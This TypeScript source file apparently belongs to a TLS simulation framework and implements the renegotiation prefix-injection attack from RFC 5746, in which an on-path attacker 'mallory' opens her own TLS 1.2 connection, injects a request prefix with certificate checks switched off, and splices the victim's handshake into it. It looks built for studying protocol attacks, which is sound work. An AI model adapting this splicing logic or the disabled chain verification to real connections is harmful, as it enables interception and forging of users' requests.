import { type Bytes, encode, fromUtf8, utf8 } from "../bytes/mod.ts";
import {
  clientConfig,
  ClientConnection,
  Fault,
  type FramedRecord,
  HONEST_SEAMS,
  RecordFramer,
} from "../tls/mod.ts";
import { ContentType, ProtocolVersion, Record } from "../wire/mod.ts";
import type { Endpoint, EventId } from "../trace/mod.ts";
import { type OwnRecords, ownRecords } from "./own_records.ts";
import type { Attack, Line, Position } from "./position.ts";
import { readBeginning } from "./read_hello.ts";

/**
 * Puts words of her own in front of somebody else's (RFC 5746 §1): she opens a connection to the
 * server, says the beginning of a request, and then lets the victim's whole handshake run inside
 * her connection, where it looks like a renegotiation. From the victim's change_cipher_spec on she
 * can read nothing any more, and only carries bytes.
 */
export function splicePrefix(prefix: string): Attack {
  return (mallory) => {
    mallory.note(`${mallory.name} is on-path at "${mallory.link}"`);
    mallory.intercept({ name: "splice", onSegment: () => "take" });
    mallory.listenForeign((victim, destination) => {
      let waiting = true;
      victim.peek((heard, over, cause) => {
        if (!waiting) return;
        const { complete, serverName } = readBeginning(heard);
        waiting = !complete && !over;
        if (complete) begin(mallory, victim, destination, serverName, prefix, cause);
        else if (over) victim.end(cause);
      });
    });
  };
}

function begin(
  mallory: Position,
  victim: Line,
  destination: Endpoint,
  serverName: Bytes | undefined,
  prefix: string,
  cause: EventId | undefined,
): void {
  const { crypto, ambient } = mallory;
  mallory.connect(destination, {
    onOpen(line, packet) {
      const engine = new ClientConnection(
        clientConfig({
          crypto,
          versions: [ProtocolVersion["TLS 1.2"]],
          // She does not care who the server is, as long as it is the victim's.
          seams: { ...HONEST_SEAMS, verifyChain: () => ({ ok: true, checks: [] }) },
          ...(serverName !== undefined && { serverName: fromUtf8(serverName) }),
        }),
        ambient,
      );
      const to = mallory.nameOf(destination.address);
      const channel = mallory.channel(engine, line, mallory.name, to);
      channel.handlers = {
        onOpen(event) {
          channel.send(utf8(prefix), event);
          mallory.note(`${mallory.name} has begun a request, and lets the other finish it`, event);
          // Her Finished and the beginning of the request; of the server, its Finished.
          const counts = { sent: 2, received: 1 };
          const own = ownRecords(channel.reported, counts, { crypto, random: ambient.random });
          splice(victim, line, own);
        },
        onClose: () => void victim.abort(),
      };
      channel.start(packet);
    },
    onReset: () => void victim.abort(cause),
  }, { cause });
}

/** Carries both ways: through her own keys up to change_cipher_spec, as it is behind it. */
function splice(victim: Line, line: Line, own: OwnRecords): void {
  pump(victim, line, ({ type, fragment }) => own.seal(type, fragment));
  pump(line, victim, (record) => {
    const content = own.open(record);
    return content === undefined ? undefined : clear(record.type, content);
  });
}

function pump(
  from: Line,
  into: Line,
  translate: (record: FramedRecord) => Bytes | undefined,
): void {
  const framer = new RecordFramer();
  let raw = false;
  from.listen({
    onData(bytes, packet) {
      framer.push(bytes);
      for (let record = framer.next(); record !== undefined; record = framer.next()) {
        const onward = record instanceof Fault ? undefined : raw ? record.bytes : translate(record);
        if (record instanceof Fault || onward === undefined) return void into.abort(packet);
        raw ||= record.type === ContentType.change_cipher_spec;
        if (into.state === "open") into.write(onward, packet);
      }
    },
    onEnd: (packet) => void (into.state === "open" && into.end(packet)),
    onReset: (_reason, packet) => void (into.state === "open" && into.abort(packet)),
  });
}

function clear(type: number, fragment: Bytes): Bytes {
  return encode(Record, { type, legacyRecordVersion: ProtocolVersion["TLS 1.2"], fragment });
}
